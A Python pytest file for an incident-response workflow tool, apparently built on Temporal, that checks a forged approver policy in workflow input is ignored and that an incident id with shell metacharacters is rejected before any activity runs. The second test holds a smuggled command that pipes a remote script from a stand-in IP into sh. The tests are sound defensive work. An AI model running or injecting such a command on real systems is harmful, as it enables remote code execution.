"""What a client that may start workflows cannot do: grant itself approval with a policy in the input, or
get anything run for an incident id that would reach a shell."""

from __future__ import annotations

import uuid
from datetime import UTC, datetime

import pytest
from temporalio.api.enums.v1 import EventType
from temporalio.client import WorkflowFailureError, WorkflowUpdateFailedError

from irflow.devstack.demo import sample_finding
from irflow.models.finding import parse_guardduty
from irflow.models.incident import INCIDENT_WORKFLOW, IncidentInput, IncidentState, Status
from tests.support import running_worker, wait_for


def _forged_input(workload, incident_id: str) -> dict:
    finding = parse_guardduty(sample_finding(workload.instance_id, workload.account_id, workload.region)).finding
    request = IncidentInput(
        incident_id=incident_id,
        playbook="ec2-instance",
        finding=finding,
        resource_id=workload.instance_id,
        received_at=datetime.now(UTC),
    ).model_dump(mode="json")
    # What an attacker with namespace access writes: a policy naming themselves the only approver.
    request["policy"] = {"approvers": {"mallory": {"roles": ["approver"]}}, "auto_contain_min_severity": "CRITICAL"}
    return request


async def test_a_policy_in_the_workflow_input_grants_nothing(dev_env, workload):
    client = dev_env.client
    async with running_worker(client, capture_memory=False) as settings:
        workflow_id = f"ec2-forged-{uuid.uuid4().hex[:8]}"
        handle = await client.start_workflow(
            INCIDENT_WORKFLOW,
            _forged_input(workload, f"{workflow_id}-20261207T000000Z"),
            id=workflow_id,
            task_queue=settings.task_queue,
            result_type=IncidentState,
        )
        # The worker's policy applies: HIGH is above its MEDIUM threshold, so it contained without asking.
        state = await wait_for(handle, lambda s: s.status == Status.AWAITING_DECISION)
        assert state.pending_decision.kind == "eradication" and state.contained_at is not None
        with pytest.raises(WorkflowUpdateFailedError):
            await handle.execute_update("approve", {"by": "mallory"})
        await handle.signal("approve", {"by": "mallory"})
        state = await wait_for(handle, lambda s: any(d.by == "mallory" for d in s.decisions))
        assert [(d.by, d.accepted) for d in state.decisions] == [("mallory", False)]
        assert "not a configured approver" in state.decisions[0].refusal
        await handle.execute_update("reject", {"by": "alice", "reason": "test over"})
        assert (await handle.result()).status == Status.ROLLED_BACK


async def test_an_incident_id_with_shell_metacharacters_is_refused_before_any_activity(dev_env, workload):
    client = dev_env.client
    async with running_worker(client) as settings:
        workflow_id = f"ec2-shell-{uuid.uuid4().hex[:8]}"
        handle = await client.start_workflow(
            INCIDENT_WORKFLOW,
            _forged_input(workload, "x;curl -s http://203.0.113.9/x|sh;"),
            id=workflow_id,
            task_queue=settings.task_queue,
        )
        with pytest.raises(WorkflowFailureError) as failure:
            await handle.result()
        assert failure.value.cause.type == "InvalidIncidentId"
        events = [e.event_type async for e in handle.fetch_history_events()]
        assert EventType.EVENT_TYPE_WORKFLOW_EXECUTION_FAILED in events
        assert EventType.EVENT_TYPE_ACTIVITY_TASK_SCHEDULED not in events
        assert EventType.EVENT_TYPE_MARKER_RECORDED not in events, "not even the local policy activity ran"
